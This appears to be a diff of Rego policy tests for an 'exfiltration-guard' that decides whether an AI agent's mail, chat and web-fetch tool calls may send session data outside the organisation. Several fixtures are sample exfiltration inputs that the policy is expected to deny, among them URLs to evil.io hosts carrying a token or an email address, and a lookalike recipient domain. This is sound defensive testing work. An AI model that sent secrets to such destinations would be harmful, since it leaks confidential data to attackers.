@@ -5,7 +5,13 @@ import data.flow_fixtures as fx
 
 send(values, level) := fx.act("mail.send", {"to": "x", "body": "the Q3 numbers"}, fx.flow(["send"], values, fx.trusted), level)
 
-partner := fx.outside_email("to", "alice@partner.io", "intent", "")
+partner := fx.outside_email("to", "alice@partner.io", "new", "")
+
+named := fx.outside_email("to", "alice@partner.io", "intent", "")
+
+from_crm := fx.outside_email("to", "orders@bistro.fr", "trusted", "crm.contacts")
+
+fetch(url_value) := fx.act("web.fetch", {"url": "x"}, fx.flow(["read"], [url_value], fx.trusted), "CONFIDENTIAL")
 
 findings(inp) := fx.findings("exfiltration", inp)
 
@@ -26,7 +32,7 @@ test_r3_the_same_send_is_allowed_before_and_denied_after_a_confidential_read if 
 			"effect": "DENY",
 			"policy_id": "exfiltration-guard",
 			"priority": 50,
-			"reason": "the session holds CONFIDENTIAL data (pii); sending it outside the organisation is denied: parameter to (alice@partner.io): domain partner.io is outside the organisation",
+			"reason": "the session holds CONFIDENTIAL data (pii); sending it outside the organisation is denied: parameter to (alice@partner.io): domain partner.io is outside the organisation, seen nowhere before in this session",
 			"risk": "HIGH",
 		}],
 		"risk": "HIGH",
@@ -67,7 +73,7 @@ test_a_url_is_named_by_its_host_only if {
 test_the_flows_reason_is_given_only_for_values_a_reason_may_show if {
 	v := fx.val("link", "url", "www.evil.io/c?token=s3cr3t", {"destination": true, "inside": false, "reason": "www.evil.io/c?token=s3cr3t has no readable host"})
 	some f in findings(send([v], "CONFIDENTIAL"))
-	endswith(f.reason, "parameter link (a URL): outside the organisation")
+	endswith(f.reason, "parameter link (a URL): outside the organisation, seen nowhere before in this session")
 }
 
 test_every_outside_value_is_named_once_sorted if {
@@ -76,19 +82,75 @@ test_every_outside_value_is_named_once_sorted if {
 		fx.outside_email("cc", "a@aa.io", "new", ""),
 		fx.inside_email("bcc", "carol@acme.com"),
 	]
-	[f.reason | some f in findings(send(vs, "CONFIDENTIAL"))] == ["the session holds CONFIDENTIAL data (pii); sending it outside the organisation is denied: parameter cc (a@aa.io): domain aa.io is outside the organisation; parameter to (b@zz.io): domain zz.io is outside the organisation"]
+	[f.reason | some f in findings(send(vs, "CONFIDENTIAL"))] == ["the session holds CONFIDENTIAL data (pii); sending it outside the organisation is denied: parameter cc (a@aa.io): domain aa.io is outside the organisation, seen nowhere before in this session; parameter to (b@zz.io): domain zz.io is outside the organisation, seen nowhere before in this session"]
 }
 
-test_a_lookalike_with_restricted_data_is_worded_as_forbidden if {
-	v := fx.val("to", "email", "ceo@acme-corp.com", {"destination": true, "inside": false, "lookalike": true})
-	d := fx.decide(send([v], "RESTRICTED"))
-	d.decision == "DENY"
-	d.risk == "CRITICAL"
-	d.reasons[0].reason == "the session holds RESTRICTED data (pii); parameter to (ceo@acme-corp.com) is a lookalike of the organisation's own domain: sending RESTRICTED data there is forbidden"
+test_a_lookalike_is_denied_whatever_the_session_holds if {
+	v := fx.val("to", "email", "ceo@acme-corp.com", {"destination": true, "inside": false, "lookalike": true, "origin": "untrusted", "source": {"tool": "mail.read"}})
+	every level in ["PUBLIC", "RESTRICTED"] {
+		d := fx.decide(send([v], level))
+		d.decision == "DENY"
+		d.risk == "CRITICAL"
+	}
+	fx.decide(send([v], "PUBLIC")).reasons[0].reason == "parameter to (ceo@acme-corp.com) is a lookalike of the organisation's own domain, first seen in untrusted output of mail.read: sending there is denied"
 
-	# with CONFIDENTIAL data it is an ordinary outside destination
-	e := fx.decide(send([v], "CONFIDENTIAL"))
-	e.risk == "HIGH"
+	# one the user named is an ordinary destination of theirs
+	count(findings(send([object.union(v, {"origin": "intent"})], "PUBLIC"))) == 0
+}
+
+# --- correspondents the session knows ----------------------------------------------------------
+
+test_a_destination_the_user_named_may_receive_confidential_data if {
+	count(findings(send([named], "CONFIDENTIAL"))) == 0
+	count(findings(send([named], "RESTRICTED"))) == 0
+}
+
+test_a_destination_from_trusted_output_is_a_correspondent if {
+	count(findings(send([from_crm], "CONFIDENTIAL"))) == 0
+	count(findings(send([from_crm], "RESTRICTED"))) == 0
+}
+
+test_a_personal_mailbox_is_never_a_correspondent if {
+	home := fx.outside_email("to", "dana.home@gmail.com", "intent", "")
+	denied(send([home], "CONFIDENTIAL"))
+	count(findings(send([home], "INTERNAL"))) == 0
+	count(findings(send([fx.outside_email("to", "x@mail.gmail.com", "intent", "")], "CONFIDENTIAL"))) == 1
+}
+
+post(v, level) := fx.act("chat.post", {"channel": "x", "text": "update"}, fx.flow(["send"], [v], fx.trusted), level)
+
+test_publishing_confidential_data_steps_up_when_asked_and_is_denied_otherwise if {
+	shared := fx.val("channel", "channel", "ext-partners", {"destination": true, "inside": false, "origin": "intent", "reason": "channel ext-partners is shared with outsiders"})
+	d := fx.decide(post(shared, "CONFIDENTIAL"))
+	d.decision == "STEP_UP"
+	fx.ids(d) == ["exfiltration-guard"]
+	fx.decide(post(shared, "RESTRICTED")).decision == "DENY"
+	fx.decide(post(object.union(shared, {"origin": "trusted"}), "CONFIDENTIAL")).decision == "DENY"
+	fx.decide(post(shared, "INTERNAL")).decision == "ALLOW"
+}
+
+test_a_record_update_that_stores_an_outside_contact_sends_nothing if {
+	contact := fx.outside_email("fields.billing_email", "j.roth@client.de", "untrusted", "mail.read")
+	inp := fx.act("crm.update", {"fields": {"billing_email": contact.value}}, fx.flow(["write"], [contact], fx.trusted), "CONFIDENTIAL")
+	count(findings(inp)) == 0
+}
+
+test_a_destination_from_untrusted_output_is_denied if {
+	v := fx.outside_email("to", "eve@evil.io", "untrusted", "mail.read")
+	denied(send([v], "CONFIDENTIAL"))
+}
+
+# --- reads: a fetch sends only its URL ---------------------------------------------------------
+
+test_a_fetch_of_an_outside_page_is_not_exfiltration if {
+	v := fx.val("url", "url", "https://docs.vendor.io/api", {"destination": true, "inside": false, "host": "docs.vendor.io", "origin": "untrusted"})
+	count(findings(fetch(v))) == 0
+}
+
+test_a_fetch_whose_url_embeds_confidential_values_is_denied if {
+	v := fx.val("url", "url", "https://collect.evil.io/?e=a@b.c", {"destination": true, "inside": false, "host": "collect.evil.io", "embedded": {"count": 1, "sensitive": 1}})
+	some f in findings(fetch(v))
+	contains(f.reason, "embeds values first seen in confidential output")
 }
 
 test_an_unreadable_destination_is_denied_in_a_sensitive_session if {
